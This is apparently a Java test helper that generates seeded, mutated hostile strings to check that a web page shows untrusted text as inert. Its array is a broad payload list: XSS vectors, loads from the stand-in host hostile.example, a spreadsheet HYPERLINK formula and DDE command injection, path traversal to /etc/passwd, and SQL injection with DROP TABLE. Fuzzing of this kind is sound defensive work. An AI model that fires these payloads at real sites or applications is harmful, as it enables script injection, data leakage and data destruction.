package retrace.web;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Texts that a page would run, load or fall over if it took them for anything but text. Each begins with its own mark, {@code p0001:}, so
 * that a test finds it again wherever it is shown. What runs sets {@code window.ran}; what loads asks hostile.example.
 */
final class HostileText {

    private static final String RUN = "window.ran=1";

    private static final String[] PIECES = {
        "<script>" + RUN + "</script>",
        "<script src=//hostile.example/a.js></script>",
        "<img src=x onerror=\"" + RUN + "\">",
        "<img src=https://hostile.example/a.png>",
        "<svg onload=" + RUN + ">",
        "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=" + RUN + ">#x\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + RUN + "&gt;\">",
        "<iframe srcdoc=\"<script>parent." + RUN + "</script>\">",
        "<iframe src=javascript:parent." + RUN + ">",
        "<a href=\"javascript:" + RUN + "\">x</a>",
        "<a href=\"java\tscript:" + RUN + "\">x</a>",
        "<details open ontoggle=" + RUN + ">",
        "<input autofocus onfocus=" + RUN + ">",
        "<video><source onerror=" + RUN + ">",
        "<body onload=" + RUN + ">",
        "<meta http-equiv=refresh content=\"0;url=https://hostile.example/\">",
        "<base href=https://hostile.example/>",
        "<link rel=stylesheet href=https://hostile.example/a.css>",
        "<style>@import url(https://hostile.example/b.css);*{background:url(https://hostile.example/c)}</style>",
        "<form action=https://hostile.example/><button autofocus>x",
        "<object data=https://hostile.example/d>",
        "<template><script>" + RUN + "</script></template>",
        "<x is=y slot=z style=animation-name:r onanimationstart=" + RUN + ">",
        "\"><script>" + RUN + "</script>",
        "' autofocus onfocus='" + RUN + "' x='",
        "` onmouseover=" + RUN + " `",
        "--><script>" + RUN + "</script><!--",
        "]]><script>" + RUN + "</script><![CDATA[",
        "</textarea></title></style></script><script>" + RUN + "</script>",
        "&lt;script&gt;" + RUN + "&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &#x0;",
        "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e %3Cscript%3E",
        "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} #{7*7} <%= 7*7 %> @(7*7) [[7*7]]",
        "javascript:" + RUN + "//",
        "data:text/html,<script>" + RUN + "</script>",
        "';" + RUN + ";//",
        "\");" + RUN + ";(\"",
        "\"}],\"rows\":[{\"label\":\"x\"}],\"a\":{\"b\":\"",
        "\\\",\\n\\u0022}]} \\ \\\\ \\x00",
        "\",,;\t|\n\"\"\n=cmd|' /C calc'!A0\n@SUM(1)\n+1\n-1",
        "=HYPERLINK(\"https://hostile.example/?\"&A1;\"x\")",
        "../../../../etc/passwd\0.png",
        "C:\\con\\nul .. %2e%2e%2f",
        "__proto__ constructor prototype toString hasOwnProperty null undefined NaN",
        "' OR 1=1; DROP TABLE events;--",
        "a\u202Egnp.exe\u202C \u2066left\u2069 \u200Fright\u200E",
        "zero\u200Bwidth\u200Cjoin\u200Der\u2060\uFEFF",
        "sur\uD83D rogate \uDE00 alone \uD83D\uDE00 whole",
        "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0300\u0301\u0302\u0303",
        "line\u2028separator\u2029paragraph\u0085next\u000Bvertical\fform",
        "control \u0001\u0002\u0007\b\u001B[31mred\u001B[0m\u007F\u009F",
        "\uFFFE\uFFFF\uFFFD\uE000 \uD835\uDCB3\uD840\uDC00",
        "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA \u4E2D\u6587 \u0E44\u0E17\u0E22",
        "   leading, trailing and      many spaces   ",
    };

    private HostileText() {}

    /** So many texts from one seed; one in five hundred is very long. */
    static List<String> of(int count, long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            StringBuilder text = new StringBuilder("p%04d:".formatted(i)).append(PIECES[i % PIECES.length]);
            for (int more = random.nextInt(3); more > 0; more--) {
                text.append(changed(PIECES[random.nextInt(PIECES.length)], random));
            }
            if (i % 500 == 50) {
                text.append("<b>long</b>&".repeat(1500));
            }
            texts.add(text.toString());
        }
        return texts;
    }

    /** Another spelling that a careless filter lets through. */
    private static String changed(String piece, SplittableRandom random) {
        StringBuilder out = new StringBuilder();
        for (char c : piece.toCharArray()) {
            out.append(random.nextInt(4) == 0 && c < 128 ? Character.toUpperCase(c) : c);
            if (random.nextInt(40) == 0) {
                out.append("\0\t\u200B/".charAt(random.nextInt(4)));
            }
        }
        return out.toString();
    }

    /** The texts as a list in the language of pages, in ASCII alone: what is sent is what is meant, half a surrogate too. */
    static String script(List<String> texts) {
        StringBuilder out = new StringBuilder("[");
        for (String text : texts) {
            out.append('"');
            for (char c : text.toCharArray()) {
                boolean plain = c >= ' ' && c < 127 && c != '"' && c != '\\' && c != '<';
                out.append(plain ? String.valueOf(c) : "\\u%04x".formatted((int) c));
            }
            out.append("\",");
        }
        return out.append(']').toString();
    }
}
